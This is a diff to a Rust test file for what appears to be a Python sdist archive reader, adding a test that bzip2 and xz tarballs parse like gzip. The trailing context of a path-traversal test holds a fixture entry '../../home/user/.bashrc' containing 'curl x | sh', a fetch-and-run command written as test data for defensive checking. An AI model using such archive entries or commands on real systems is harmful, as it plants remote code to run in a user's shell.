@@ -103,6 +103,26 @@ fn ordinary_sdist_reads_cleanly() {
 }
 
 #[test]
+fn bzip2_and_xz_sdists_read_like_gzip() {
+    let tar = raw_tar(&[("demo-1.0/setup.py", b'0', "", b"print('x')\n")]);
+    let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
+    bz.write_all(&tar).expect("bz2");
+    let bz = bz.finish().expect("bz2");
+    let mut xz =
+        lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::default()).expect("xz");
+    xz.write_all(&tar).expect("xz");
+    let xz = xz.finish().expect("xz");
+    for (bytes, format) in [(bz, Format::TarBz2), (xz, Format::TarXz)] {
+        let tree = read(&bytes);
+        assert_eq!(tree.format, format);
+        assert_eq!(
+            tree.get("demo-1.0/setup.py").and_then(|e| e.text()),
+            Some("print('x')\n")
+        );
+    }
+}
+
+#[test]
 fn tar_path_traversal_and_absolute_paths() {
     let tgz = gzip(&raw_tar(&[
         ("../../home/user/.bashrc", b'0', "", b"curl x | sh\n"),
